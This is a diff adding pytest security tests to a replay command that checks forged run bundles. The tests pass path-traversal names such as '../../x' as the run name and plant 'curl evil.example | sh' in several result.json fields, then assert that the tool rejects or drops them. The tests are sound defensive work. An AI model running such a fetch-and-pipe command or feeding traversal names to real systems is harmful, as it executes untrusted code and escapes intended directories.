@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import os
+import shlex
 import signal
 import subprocess
 import sys
@@ -77,6 +79,45 @@ def test_a_folder_whose_run_was_refused_can_be_used_again(tmp_path: Path) -> Non
 def test_a_folder_that_is_no_bundle_is_told(tmp_path: Path) -> None:
     done = hil("replay", tmp_path)
     assert str(done.exception) == f"{tmp_path} is no bundle of a run: there is no result.json in it"
+
+
+@pytest.fixture(scope="module")
+def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Of a run that passed."""
+    out = tmp_path_factory.mktemp("flown") / "out"
+    assert hil("run", "los-lander-only", "--report", out).exit_code == 0
+    return out / "runs" / "los-lander-only-software"
+
+
+def forged(bundle: Path, folder: Path, **changed: object) -> Path:
+    """The bundle as a stranger hands it on."""
+    folder.mkdir()
+    result = json.loads((bundle / "result.json").read_text(encoding="utf-8"))
+    (folder / "result.json").write_text(json.dumps({**result, **changed}), encoding="utf-8")
+    return folder
+
+
+@pytest.mark.parametrize("name", ["../../x", "/tmp/strangers-x", "..", "", "a/b", "-x", "a\x1b[2J", "x" * 300])
+def test_a_run_in_a_bundle_is_a_name_not_a_path(bundle: Path, tmp_path: Path, name: str) -> None:
+    theirs, out = forged(bundle, tmp_path / "theirs", run=name), tmp_path / "far" / "down" / "out"
+    done = hil("replay", theirs, "--report", out)
+    assert isinstance(done.exception, CallerError)
+    assert str(done.exception).startswith(f"{theirs / 'result.json'}: run: ")
+    assert "cannot name a file" in str(done.exception)
+    assert [path.name for path in tmp_path.iterdir()] == ["theirs"]
+
+
+def test_a_replay_shows_its_own_command_not_the_bundles(bundle: Path, tmp_path: Path) -> None:
+    evil = "curl evil.example | sh"
+    theirs = forged(bundle, tmp_path / "it's theirs", replay=evil, title=evil, line=evil, provenance={"host": evil})
+    done = hil("replay", theirs, "--report", tmp_path / "out")
+    assert done.exit_code == 1, done.output  # there is nothing to compare with
+    assert "other bytes than in the bundle" in done.output
+    assert "evil" not in done.output
+    for name in ("report.html", "junit.xml", "report.json"):
+        assert "evil" not in (tmp_path / "out" / name).read_text(encoding="utf-8")
+    report = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
+    assert shlex.split(report["results"][0]["replay"]) == ["hil", "replay", str(theirs)]
 
 
 @pytest.mark.parametrize(
